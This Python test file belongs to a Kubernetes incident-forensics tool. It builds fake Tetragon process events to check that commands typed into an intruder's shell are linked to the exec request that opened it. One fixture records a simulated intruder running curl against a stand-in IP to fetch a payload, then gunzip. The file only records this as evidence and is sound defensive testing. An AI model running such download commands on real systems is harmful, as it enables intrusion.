"""Claims about what was typed: a sensor's starts of programs are tied to the request that asked for the shell."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

from kubewitness.model.incident import Step
from kubewitness.rules.loader import RuleSet
from tests.incident.node.test_joined import entered, looked_at, machine, of_the_log

CONTAINER = "ab" * 32
BEFORE = "Mon Mar  2 01:00:09 2026"


def started(
    pid: int, parent: int, command: str, at: str, *, pod: str = "web-0", container: str = CONTAINER
) -> dict[str, Any]:
    """One event of Tetragon: a program was started in a pod of namespace shop."""
    binary, _, arguments = command.partition(" ")
    time = f"2026-03-02T{at}.500000000Z"
    process = {
        "exec_id": f"x{pid}", "pid": pid, "uid": 0, "cwd": "/", "binary": f"/bin/{binary}", "arguments": arguments,
        "flags": "execve clone", "start_time": time, "auid": 4294967295, "docker": container[:31],
        "pod": {"namespace": "shop", "name": pod, "container": {"id": f"containerd://{container}", "name": "web"}},
    }  # fmt: skip
    return {
        "process_exec": {"process": process, "parent": {"exec_id": "y", "pid": parent, "binary": "/bin/runc"}},
        "node_name": "node-a",
        "time": time,
    }


def saw(folder: Path, *events: dict[str, Any]) -> None:
    (folder / "nodes/node-a/tetragon.json").write_text("".join(json.dumps(event) + "\n" for event in events))


def typed(folder: Path, rules: RuleSet) -> list[Step]:
    """The steps told of the shell's descendants."""
    incident = of_the_log(looked_at(folder, rules))
    return [step for step in incident.steps if step.description.en.startswith(tuple("123456789"))]


SESSION = (
    started(900, 800, "sh", "13:10:01"),
    started(901, 900, "id", "13:10:20"),
    started(902, 900, "curl -s http://203.0.113.9/x", "13:10:40"),
    started(903, 902, "gunzip", "13:10:41"),
)


def test_what_was_typed_into_the_shell_is_a_step(tmp_path: Path, rules: RuleSet) -> None:
    entered(tmp_path, "sh")
    machine(tmp_path, BEFORE, "/app/web")
    saw(tmp_path, *SESSION)
    incident = of_the_log(looked_at(tmp_path, rules))
    (step,) = typed(tmp_path, rules)
    assert step.command.splitlines() == ["/bin/id", "/bin/curl -s http://203.0.113.9/x", "/bin/gunzip"]
    assert step.evidence
    assert step.time > incident.first
    assert [one.kind for one in step.path] == ["request", "process"]
    assert any(one.link == "links/exec_command" and one.target.name == "node-a/900" for one in incident.edges)


def test_the_shell_of_somebody_else_is_not_the_intruders(tmp_path: Path, rules: RuleSet) -> None:
    for number, session in enumerate(
        (
            (started(900, 800, "sh", "12:50:01"), started(901, 900, "id", "13:10:20")),  # begun before
            (started(900, 800, "sh", "13:12:01"), started(901, 900, "id", "13:12:20")),  # too late
            (started(900, 800, "bash", "13:10:01"), started(901, 900, "id", "13:10:20")),  # another command
            (
                started(900, 800, "sh", "13:10:01", pod="web-1", container="cd" * 32),
                started(901, 900, "id", "13:10:20", pod="web-1"),
            ),
            (started(900, 800, "sh", "13:10:01"), started(901, 800, "id", "13:10:20")),  # no child of it
            (started(900, 800, "sh", "13:10:01"), started(901, 900, "id", "13:10:20", container="cd" * 32)),
        )
    ):
        folder = tmp_path / str(number)
        folder.mkdir()
        entered(folder, "sh")
        machine(folder, BEFORE, "/app/web")
        saw(folder, *session)
        assert not typed(folder, rules), number


def test_a_health_probe_of_the_same_words_does_not_hide_the_shell(tmp_path: Path, rules: RuleSet) -> None:
    entered(tmp_path, "sh")
    machine(tmp_path, BEFORE, "/app/web")
    probes = [started(100 + n, 50, "sh", f"12:{n:02}:00") for n in range(12)]
    saw(tmp_path, *probes, *SESSION)
    (step,) = typed(tmp_path, rules)
    assert len(step.command.splitlines()) == 3
